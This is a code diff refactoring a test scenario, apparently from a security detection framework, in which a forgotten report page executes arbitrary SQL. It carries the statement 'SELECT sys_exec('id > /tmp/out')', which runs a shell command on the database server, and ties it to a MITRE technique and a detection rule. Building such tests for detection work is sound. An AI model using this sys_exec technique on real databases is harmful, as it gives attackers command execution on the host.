@@ -1,32 +1,19 @@
 """F3: a function from a library runs a command on the database's machine."""
 
-from backwatch.attack.protocols.server import HostileServer
-from backwatch.attack.techniques.abused import AbusedPyMySQL, told
+from backwatch.attack.clients.pymysql import PyMySQL
+from backwatch.attack.protocols.tables import MySQLOfTables
+from backwatch.attack.scenarios import Run
+from backwatch.attack.techniques.sql import ReportPage
 
 
-class RunsProgram(AbusedPyMySQL):
-    """On PyMySQL: a page for reports that was left behind, and runs whatever it is given."""
+class RunsProgram(ReportPage):
+    """A forgotten page for reports executes any statement."""
 
     code = "F3"
     attack = "runs a command on the database's machine by sys_exec"
     reference = "https://attack.mitre.org/techniques/T1505/001/"
     rule = "statement-runs-program"
-
-    def work(self) -> None:
-        """Makes the usual report."""
-        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")
-
-    def meet(self) -> object:
-        """Makes the attacker's."""
-        return self._report("SELECT sys_exec('id > /tmp/out')")
-
-    def _report(self, statement: str) -> list[list[str]]:
-        with self.connected().cursor() as cursor:
-            cursor.execute(statement)
-            return told(cursor)
-
-    @classmethod
-    def succeeded(cls, service: HostileServer, got: object) -> bool:
-        """The function answered that it went well."""
-        del service
-        return got == [["0"]]
+    server = MySQLOfTables
+    shows = "[['0']]"
+    statement = "SELECT sys_exec('id > /tmp/out')"
+    runs = (Run(PyMySQL),)
